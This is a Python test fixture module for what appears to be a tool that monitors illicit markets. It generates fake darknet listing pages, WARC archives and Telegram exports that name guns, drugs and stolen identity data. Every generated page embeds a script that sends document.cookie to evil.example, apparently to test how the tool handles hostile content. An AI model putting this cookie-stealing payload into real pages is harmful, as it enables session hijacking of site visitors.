"""Builders for realistic test inputs: market pages, WARC files, Telegram exports."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

from typer.testing import CliRunner
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from veille.cli import app

BASE = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)

ITEMS = [
    ("Glock 19 Gen5 - remis en etat de tir", "1 450,00 €", "armurier_nord"),
    ("50 cartouches 9x19 FMJ", "0.0042 BTC", "balkan_supply"),
    ("Fullz US + SSN (x10)", "$85.00", "datakingz"),
    ("Replica Submariner watch", "2.1 XMR", "luxreps"),
    ("Cocaine 92% pure 5g", "420 EUR", "white_rabbit"),
]


def market_page(i: int, title: str, price: str, vendor: str) -> str:
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>{title} | Marché Test</title>
<script>document.location='http://evil.example/'+document.cookie</script></head>
<body><nav><a href="/">Accueil</a> <a href="/cat/{i % 3}">Catégorie</a></nav>
<div class="listing" id="l{i}"><h1>{title}</h1><span class="price">{price}</span>
<a class="vendor" href="/vendor/{vendor}">{vendor}</a>
<p class="desc">Annonce n°{i}. Envoi discret depuis FR vers EU. Contact via messagerie du site.</p>
</div></body></html>"""


def write_site(folder: Path, n: int, manifest: bool = True) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    rows = ["path,url,captured_at"]
    for i in range(n):
        title, price, vendor = ITEMS[i % len(ITEMS)]
        path = folder / f"listing_{i:05d}.html"
        path.write_text(market_page(i, f"{title} #{i}", price, vendor), encoding="utf-8")
        paths.append(path)
        when = (BASE + timedelta(minutes=i)).strftime("%Y-%m-%dT%H:%M:%SZ")
        rows.append(f"listing_{i:05d}.html,http://testmarket.example/listing/{i},{when}")
    if manifest:
        (folder / "manifest.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    return paths


def write_warc(path: Path, n: int, with_image: bool = False) -> list[bytes]:
    bodies = []
    with open(path, "wb") as fh:
        writer = WARCWriter(fh, gzip=path.name.endswith(".gz"))
        for i in range(n):
            title, price, vendor = ITEMS[i % len(ITEMS)]
            body = market_page(i, f"{title} (warc {i})", price, vendor).encode()
            bodies.append(body)
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")],
                                       protocol="HTTP/1.1")
            rec = writer.create_warc_record(
                f"http://warcmarket.example/item/{i}", "response", payload=io.BytesIO(body),
                http_headers=headers,
                warc_headers_dict={"WARC-Date": (BASE + timedelta(hours=i)).strftime(
                    "%Y-%m-%dT%H:%M:%SZ")},
            )
            writer.write_record(rec)
        if with_image:
            headers = StatusAndHeaders("200 OK", [("Content-Type", "image/png")],
                                       protocol="HTTP/1.1")
            rec = writer.create_warc_record(
                "http://warcmarket.example/logo.png", "response",
                payload=io.BytesIO(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64), http_headers=headers)
            writer.write_record(rec)
    return bodies


def telegram_export(n: int = 20) -> dict:
    messages = []
    for i in range(1, n + 1):
        title, price, vendor = ITEMS[i % len(ITEMS)]
        msg = {
            "id": i, "type": "message",
            "date": (BASE + timedelta(hours=i)).strftime("%Y-%m-%dT%H:%M:%S"),
            "date_unixtime": str(int((BASE + timedelta(hours=i)).timestamp())),
            "from": "Canal Stock", "from_id": "channel777",
            "text": [f"{title} - {price} ", {"type": "mention", "text": f"@{vendor}"}],
        }
        if i % 4 == 0:
            msg["reply_to_message_id"] = i - 1
        messages.append(msg)
    messages.append({"id": n + 1, "type": "service", "date": "2026-05-03T10:00:00",
                     "actor": "Canal Stock", "action": "pin_message", "text": ""})
    return {"name": "Canal Stock", "type": "public_channel", "id": 777, "messages": messages}


def write_telegram(path: Path, data: dict) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def cli(*args: str):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(app, [str(a) for a in args])
